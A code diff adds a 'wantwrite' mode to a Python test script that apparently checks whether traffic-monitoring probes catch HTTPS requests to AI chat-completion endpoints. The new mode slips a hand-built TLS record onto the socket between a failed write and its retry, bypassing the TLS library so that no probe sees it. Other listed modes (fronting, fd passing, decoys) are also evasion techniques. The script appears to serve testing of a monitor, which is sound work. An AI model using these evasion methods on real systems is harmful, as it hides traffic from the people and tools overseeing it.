@@ -22,6 +22,16 @@ Attacks:
   fdpass    --data A: TLS through a memory BIO in this process; the
             socket passed (SCM_RIGHTS) to a helper process that sends the
             ciphertext
+  wantwrite --data A --pad N --smuggle TEXT: A (its "PAD" replaced by N
+            bytes of text) on a non-blocking socket with a small
+            send buffer, the provider told to read its body a second late
+            (X-Test-Stall), so SSL_write fails with "try again" after part of
+            A went out, and is called again with the same bytes until it
+            succeeds (as Python's sendall, curl and event loops do). With
+            TEXT, after the first failure and before the call is repeated,
+            a TLS record of application data holding TEXT is written on the
+            socket past the TLS library (req 1: no probe saw it; "status" 0
+            when it left, "error" when the kernel refused it)
   unlearned --data A --front NAME: HOST is an address no provider has;
             SNI and Host name NAME (a provider); two connections, --wait
             seconds apart (the first one asks for the process's probes)
@@ -258,6 +268,63 @@ def fronting(args, ssl, attack="fronting", req=0):
     attempt(attack, req, go)
 
 
+def wantwrite(args, ssl):
+    import select
+    ctx = ssl.create_default_context()
+    raw = socket.create_connection((args.host, 443), timeout=10)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
+    tls = ctx.wrap_socket(raw, server_hostname=args.host)
+    body = args.data[0].replace("PAD", "lorem ipsum " * (args.pad // 12), 1).encode()
+    data = ("POST /v1/chat/completions HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
+            "X-Test-Stall: 1\r\nContent-Length: %d\r\n\r\n" % (args.host, len(body))).encode() + body
+    tries = [0]
+
+    def written():  # bytes the socket took so far: acknowledged + in its send queue
+        import fcntl
+        import struct
+        import termios
+        acked = struct.unpack_from("Q", tls.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 232), 120)[0]
+        queued = struct.unpack("i", fcntl.ioctl(tls.fileno(), termios.TIOCOUTQ, b"\0" * 4))[0]
+        return acked + queued
+
+    def smuggle():  # a record of application data no probe saw, on the same socket
+        # the failed call may have left a record half written: complete it
+        # first (its rest passes as the record's, whoever writes it), so
+        # that the smuggled record starts at a record boundary. TLS 1.3 with
+        # a 16-byte tag: a full record is 5 + 16384 + 1 + 16 bytes.
+        rest = -(written() - handshake) % 16406
+        rec = b"\x17\x03\x03" + len(args.smuggle).to_bytes(2, "big") + args.smuggle.encode()
+        s = socket.socket(fileno=os.dup(tls.fileno()))
+        s.settimeout(3)
+        if rest:
+            s.sendall(b"\0" * rest)
+        s.sendall(rec)
+        return 0  # it left
+
+    time.sleep(0.2)  # the handshake's last flight acknowledged
+    handshake = written()
+
+    def go():
+        tls.setblocking(False)
+        deadline = time.monotonic() + 20
+        while True:  # one SSL_write of all of it, repeated while it says "try again"
+            try:
+                tls.send(data)
+                break
+            except ssl.SSLWantWriteError:
+                tries[0] += 1
+                if tries[0] == 1 and args.smuggle:
+                    attempt("wantwrite", 1, smuggle)  # between the failed call and its repeat
+                if time.monotonic() > deadline:
+                    raise TimeoutError("the provider never read")
+                select.select([], [tls], [], 1)
+        tls.settimeout(10)
+        st = read_status(tls, 1)
+        return st[0] if st else None
+    attempt("wantwrite", 0, go)
+    emit(attack="wantwrite-tries", tries=tries[0])
+
+
 def unlearned(args, ssl):
     fronting(args, ssl, "unlearned", 0)
     time.sleep(args.wait)
@@ -267,13 +334,15 @@ def unlearned(args, ssl):
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("attack", choices=["pipeline", "thread", "fork", "late-tls", "decoys",
-                                       "fronting", "unlearned", "fdpass"])
+                                       "fronting", "unlearned", "fdpass", "wantwrite"])
     ap.add_argument("host")
     ap.add_argument("--data", action="append", default=[])
     ap.add_argument("--wait", type=float, default=1.5)
     ap.add_argument("--decoy", action="append", default=[])
     ap.add_argument("--front")
     ap.add_argument("--sni")
+    ap.add_argument("--smuggle", default="")
+    ap.add_argument("--pad", type=int, default=0)
     args = ap.parse_args()
     if args.attack == "late-tls":
         return late_tls(args)
@@ -281,7 +350,7 @@ def main():
         return decoys(args)
     import ssl
     {"pipeline": pipeline, "thread": thread, "fork": fork, "fronting": fronting,
-     "unlearned": unlearned, "fdpass": fdpass}[args.attack](args, ssl)
+     "unlearned": unlearned, "fdpass": fdpass, "wantwrite": wantwrite}[args.attack](args, ssl)
 
 
 if __name__ == "__main__":
